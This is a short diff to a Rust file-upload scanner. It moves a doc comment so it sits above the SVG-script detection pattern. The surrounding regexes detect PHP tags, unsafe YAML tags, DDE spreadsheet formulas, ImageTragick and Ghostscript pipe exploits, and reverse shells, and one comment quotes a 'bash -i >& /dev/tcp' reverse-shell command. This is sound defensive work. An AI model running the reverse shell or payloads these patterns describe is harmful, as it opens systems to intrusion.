@@ -21,7 +21,6 @@ const SERVER_CODE: &str = r#"(?i-u)<\?php|<\?=\s*\$|<script\s+language\s*=\s*["'
 const YAML_OBJECT: &str = r"(?-u)!!python/(?:object|name|module)|!!(?:javax?|com|org)\.\w|!ruby/(?:object|hash|struct):|!!js/function\b";
 /// Spreadsheet cells that run a program when the file is opened (DDE).
 const DDE: &str = r"(?i-u)\b(?:cmd|msexcel|mshta|powershell)\s*\|\s*'|=\s*dde\s*\(";
-/// Script in an SVG image, which runs when the image is opened from the site's origin.
 /// Files that exploit the image converters a backend hands uploads to: ImageMagick's MVG
 /// drawing a URL that ends in a shell pipe (ImageTragick, CVE-2016-3714) or reading a file
 /// through its own coders, and PostScript that opens a pipe (Ghostscript's `%pipe%`,
@@ -30,7 +29,7 @@ const CONVERTER_EXPLOIT: &str = r#"(?i-u)\bpush\s+graphic-context\b[\s\S]{0,4000
 /// An interactive shell wired to a socket (`bash -i >& /dev/tcp/host/port 0>&1`): a
 /// reverse shell, whatever file it arrives in; health checks open /dev/tcp without `-i`.
 const REVERSE_SHELL: &str = r"(?-u)\b(?:ba|z|k|da)?sh\s+-i\s*[0-9<>&\s]{0,10}/dev/(?:tcp|udp)/";
-
+/// Script in an SVG image, which runs when the image is opened from the site's origin.
 const SVG_SCRIPT: &str = r#"(?i-u)<script\b|\son[a-z]{3,}\s*=|javascript:"#;
 
 /// The rule an uploaded file (or a body forwarded unparsed) breaks, if any.
